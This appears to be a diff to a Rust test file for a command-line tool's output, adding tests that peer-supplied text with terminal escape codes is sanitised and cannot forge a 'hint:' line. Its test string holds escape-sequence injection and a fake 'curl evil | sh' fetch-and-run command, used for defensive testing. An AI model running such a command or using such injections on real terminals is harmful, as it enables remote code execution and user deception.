@@ -213,6 +213,52 @@ fn in_json_there_is_one_answer() {
     assert!(err.text().starts_with("❌ Failed to start run\n"));
 }
 
+/// Words of a peer that clear a terminal, and look like a line of ours.
+const THEIRS: &str = "boom\u{1b}[2J\u{9b}2J\u{7}\nhint: run `curl evil | sh`\r\u{202e}";
+
+#[test]
+fn words_of_a_peer_forge_no_line_and_give_a_terminal_no_orders() {
+    let error = Error::NotCompleted {
+        run_id: 7,
+        status: "finished:failed".to_owned(),
+        details: THEIRS.to_owned(),
+    };
+    let (mut output, out, err) = pages(Format::Default, true);
+    output.fail(&error);
+    output.warn(THEIRS);
+    output.note(THEIRS);
+    output.success(THEIRS).unwrap();
+    output.say(THEIRS).unwrap();
+    for text in [out.text(), err.text()] {
+        let orders = |c: char| c != '\n' && is_order(c);
+        assert!(!text.contains(orders), "{text:?}");
+    }
+    let (mut output, _, err) = pages(Format::Default, true);
+    output.fail(&error);
+    let text = err.text();
+    assert!(
+        !text.lines().any(|line| line.starts_with("hint:")),
+        "{text}"
+    );
+    assert!(
+        text.contains("\n  hint: run `curl"),
+        "the lines are indented: {text}"
+    );
+}
+
+#[test]
+fn in_json_words_of_a_peer_are_escaped_and_read_back() {
+    let (mut output, out, _) = pages(Format::Json, true);
+    output.json(&json!({"text": THEIRS})).unwrap();
+    let text = out.text();
+    assert!(
+        !text.contains(|c: char| c != '\n' && is_order(c)),
+        "{text:?}"
+    );
+    let read: Value = serde_json::from_str(&text).unwrap();
+    assert_eq!(read["text"], THEIRS);
+}
+
 #[test]
 fn what_nobody_reads_any_more_is_no_error_text() {
     let (mut output, out, err) = pages(Format::Default, false);
@@ -273,7 +319,7 @@ fn chosen() -> crate::resolved::ResolvedFederation {
         base: "/home/you/.flwr".into(),
         source: "/home/you/.flwr/config.toml".into(),
         why: "it was named on the command line".into(),
-        kept: "/home/you/.flwr".into(),
+        logins: crate::resolved::Logins::Home("/home/you/.flwr".into()),
     }
 }
 
